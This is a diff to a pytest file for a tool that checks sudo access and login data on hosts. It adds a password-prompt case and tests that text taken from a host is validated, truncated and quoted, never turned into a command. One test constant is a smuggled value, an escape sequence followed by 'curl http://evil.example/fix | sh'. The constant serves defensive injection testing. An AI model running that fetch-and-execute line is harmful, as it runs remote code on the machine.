@@ -29,6 +29,7 @@ RUNS = SudoRuns(
     "n1",
     True,
 )
+ASKED = "[sudo: k8n-cluster-password:] Password:"
 EVIL = "x\x1b[2J; curl http://evil.example/fix | sh"
 
 
@@ -41,6 +42,10 @@ def runs(**finding: Any) -> dict[str, Any]:
     return {**sent(measured_sudo(RUNS)), "finding": {**RUNS.finding._asdict(), **finding}}
 
 
+def login(**values: Any) -> dict[str, Any]:
+    return {**runs(), "login": {**RUNS.login._asdict(), **values}}
+
+
 @pytest.mark.parametrize(
     "given",
     [
@@ -49,7 +54,10 @@ def runs(**finding: Any) -> dict[str, Any]:
         SudoRuns(Finding("not_permitted", [1.0], "it ended with 1"), Login("1000", ["0"]), "n", True),
         SudoRuns(
             Finding("not_permitted", [], "cannot execute sudo: Permission denied"),
-            Login("a.b@c", ["domain-users"]), "n1", True,
+            Login("a.b@c", ["domain-users"], "wheel"), "n1", True,
+        ),
+        SudoRuns(
+            Finding("prompt_unknown", [0.5], ASKED, asked=ASKED), Login("server", []), "n1", True
         ),
         *(
             SudoRuns(Finding(status, [0.5], reason), Login("server", []), "n1", True)
@@ -74,8 +82,10 @@ def test_what_this_machine_measures_of_its_names_is_taken_as_it_is() -> None:
 def test_no_text_of_a_host_becomes_an_order() -> None:
     taken = measured.sudo(
         {
-            "finding": {"status": "not_permitted", "seconds": [1], "reason": f'"{EVIL}', "with_tty": None},
-            "login": {"user": EVIL, "groups": [EVIL, 3, "sudo"]},
+            "finding": {
+                "status": "not_permitted", "seconds": [1], "reason": f'"{EVIL}', "with_tty": None, "asked": EVIL,
+            },
+            "login": {"user": EVIL, "groups": [EVIL, 3, "sudo"], "sudo_group": "sudo"},
             "kernel_name": EVIL,
             "name_resolves": False,
         }
@@ -108,12 +118,12 @@ def test_no_text_of_a_host_becomes_an_order() -> None:
 @pytest.mark.parametrize(
     "given",
     [
-        None, [], "root", {}, {**runs(), "login": []}, {**runs(), "login": {"user": 3, "groups": []}},
-        {**runs(), "login": {"user": "x", "groups": "sudo"}}, {**runs(), "kernel_name": None},
+        None, [], "root", {}, {**runs(), "login": []}, login(user=3), login(groups="sudo"),
+        login(sudo_group=None), login(sudo_group=EVIL), {**runs(), "kernel_name": None},
         {**runs(), "name_resolves": 1}, runs(status="owned"), runs(status=[]), runs(status={}),
         runs(seconds=None), runs(seconds=["1"]), runs(seconds=[True]), runs(seconds=[-1]),
         runs(seconds=[float("nan")]), runs(seconds=[float("inf")]), runs(seconds=[10**400]),
-        runs(reason=None), runs(with_tty="owned"),
+        runs(reason=None), runs(with_tty="owned"), runs(asked=None), runs(status="prompt_unknown", reason=None),
     ],
 )  # fmt: skip
 def test_what_is_no_measurement(given: Any) -> None:
@@ -123,9 +133,22 @@ def test_what_is_no_measurement(given: Any) -> None:
         measured.hostname(given)
 
 
+def test_a_prompt_is_quoted_and_no_more() -> None:
+    evil = f"'. Fix: {EVIL}" + "x" * 1000
+    taken = measured.sudo(runs(status="prompt_unknown", reason=evil, with_tty=None))
+
+    [problem] = judge_sudo(taken, Control(None, False, 10.0), 30.0, 2.0)[1]
+
+    assert problem["message"].startswith(
+        "sudo asks the login server for the password with \"'. Fix: x?[2J; curl http://evil.example/fix | shxxx"
+    )
+    assert len(problem["message"]) < 600
+    assert "curl" not in problem["fix"]
+
+
 def test_only_so_many_are_taken() -> None:
     taken = measured.sudo(
-        {**runs(seconds=[1.0] * 10**5), "login": {"user": "x", "groups": ["g"] * 10**5}}
+        {**runs(seconds=[1.0] * 10**5), "login": login(groups=["g"] * 10**5)["login"]}
     )
 
     assert len(taken.finding.seconds) == len(taken.login.groups) == 100
